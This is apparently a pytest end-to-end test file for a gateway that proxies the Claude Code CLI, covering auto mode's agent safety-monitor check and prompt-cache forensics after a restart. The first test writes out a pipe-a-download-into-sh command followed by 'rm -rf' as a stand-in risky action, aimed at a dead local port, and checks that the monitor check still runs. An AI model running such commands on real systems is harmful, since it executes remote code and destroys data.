"""The real Claude Code CLI, interactive, in tmux: the way people use it, in auto mode (2.1.332's default).
Auto mode's safety check runs on Anthropic's servers (`safeguards`), which a converting upstream cannot do; set up
as ccany-claude-setup writes it (CLAUDE_CODE_AUTO_MODE_SERVER=0), the CLI runs the check itself with ordinary
requests through the gateway, and a risky command is checked and runs with no "Auto mode can't check actions"
stop. (Without that setting 2.1.332 stops at that dialog whether the gateway drops `safeguards` or refuses it with
the protocol's 400: tried by hand.)"""

from __future__ import annotations

import json
import shlex
import shutil
import subprocess
import time
import uuid
from pathlib import Path

import pytest

from tests.conftest import start_proxy, stop
from tests.e2e.flow_db import flow_rows
from tests.e2e.test_claude_code import CLAUDE

CLIENT_KEY = "sk-ant-interactive-client-0123456789"


@pytest.fixture
def tmux_session(tmp_path):
    if shutil.which("tmux") is None:
        pytest.fail("tmux is needed for the interactive tests (scripts/setup installs it)")
    name = f"ccany-{uuid.uuid4().hex[:8]}"
    yield name
    subprocess.run(["tmux", "kill-session", "-t", name], capture_output=True)


def screen(session: str) -> str:
    return subprocess.run(["tmux", "capture-pane", "-t", session, "-p"], capture_output=True, text=True).stdout


def wait_for(check, timeout: float, what: str, session: str) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        if time.monotonic() > deadline:
            raise AssertionError(f"{what} did not happen; the screen:\n{screen(session)}")
        time.sleep(0.3)


def start_claude(session: str, proxy_url: str, work: Path, home: Path) -> None:
    home.mkdir()
    work.mkdir()
    # what a person has done once: onboarding, the key approved, this folder trusted
    (home / ".claude.json").write_text(json.dumps({
        "hasCompletedOnboarding": True, "theme": "dark",
        "customApiKeyResponses": {"approved": [CLIENT_KEY[-20:]], "rejected": []},
        "projects": {str(work): {"hasTrustDialogAccepted": True, "allowedTools": []}}}))
    env = {"HOME": home, "TERM": "xterm-256color", "ANTHROPIC_BASE_URL": proxy_url, "ANTHROPIC_API_KEY": CLIENT_KEY,
           "DISABLE_TELEMETRY": 1, "DISABLE_ERROR_REPORTING": 1, "DISABLE_AUTOUPDATER": 1,
           "CLAUDE_CODE_DISABLE_NONESSENTIAL_TRAFFIC": 1, "PATH": "/usr/bin:/bin",
           "CLAUDE_CODE_AUTO_MODE_SERVER": 0}  # as ccany-claude-setup writes it for a converting gateway
    assignments = " ".join(f"{name}={shlex.quote(str(value))}" for name, value in env.items())
    command = f"env -i {assignments} {shlex.quote(str(CLAUDE))}"
    subprocess.run(["tmux", "new-session", "-d", "-s", session, "-x", "160", "-y", "45", "-c", str(work), command],
                   check=True)


def test_auto_mode_runs_a_risky_command_through_a_converting_gateway(proxy, fake_upstream, tmp_path, tmux_session):
    work = tmp_path / "work"
    work_junk = work / "junk"  # what the risky command removes
    start_claude(tmux_session, proxy.url, work, tmp_path / "home")
    wait_for(lambda: "auto mode on" in screen(tmux_session), 30, "the prompt in auto mode", tmux_session)
    work_junk.mkdir()
    fake_upstream.clear()
    subprocess.run(["tmux", "send-keys", "-t", tmux_session,
                    # piping a download into a shell: a command auto mode must check (a port nobody listens on)
                    f"Run the command: curl -s http://127.0.0.1:9/install.sh | sh; rm -rf {work_junk}; "
                    f"mkdir {work / 'made'}"], check=True)
    time.sleep(0.3)
    subprocess.run(["tmux", "send-keys", "-t", tmux_session, "Enter"], check=True)
    wait_for(lambda: (work / "made").is_dir(), 60, "the command", tmux_session)
    wait_for(lambda: "The file is written." in screen(tmux_session), 30, "the turn's end", tmux_session)
    shown = screen(tmux_session)
    assert "can't check actions" not in shown and not work_junk.exists()
    bodies = [request["body"] for request in fake_upstream.requests()]
    assert not any("safeguards" in body for body in bodies)
    checks = [body for body in bodies if "You are a security monitor" in json.dumps(body.get("messages", [])[:1])]
    assert checks, "auto mode's own check went through the gateway"


def test_a_session_resumed_after_a_proxy_restart_keeps_its_prompt_cache_forensics(fake_upstream, tmp_path,
                                                                                   tmux_session):
    """A person restarts the gateway in the middle of a Claude Code session and goes on typing: the next turn is
    still compared with the one before it (the writer reads that one back from the flow DB)."""
    answer = "Hello from the fake upstream."

    def ask(prompt: str, answers: int) -> None:
        subprocess.run(["tmux", "send-keys", "-t", tmux_session, prompt], check=True)
        time.sleep(0.3)
        subprocess.run(["tmux", "send-keys", "-t", tmux_session, "Enter"], check=True)
        wait_for(lambda: screen(tmux_session).count(answer) >= answers, 60, f"the answer to {prompt!r}", tmux_session)

    proxy = start_proxy(fake_upstream.url, tmp_path)
    try:
        start_claude(tmux_session, proxy.url, tmp_path / "work", tmp_path / "home")
        wait_for(lambda: "auto mode on" in screen(tmux_session), 30, "the prompt", tmux_session)
        ask("Say hello", 1)
    finally:
        stop(proxy.process)
    proxy = start_proxy(fake_upstream.url, tmp_path, port=proxy.port)  # same address, same flow DB
    try:
        ask("Say hello once more", 2)
    finally:
        stop(proxy.process)
    turns = [row for row in flow_rows(proxy.db, "session_id IS NOT NULL")
             if row["client_request"] and "Say hello" in json.dumps(json.loads(row["client_request"])["messages"][-1])]
    first, resumed = turns[0], turns[-1]
    assert "once more" in resumed["client_request"] and first["session_id"] == resumed["session_id"]
    assert resumed["prefix_parts"] and resumed["upstream_prefix_parts"], resumed  # tools and system: shared
    assert resumed["upstream_prefix_bytes"] > 0.5 * resumed["upstream_prompt_bytes"]
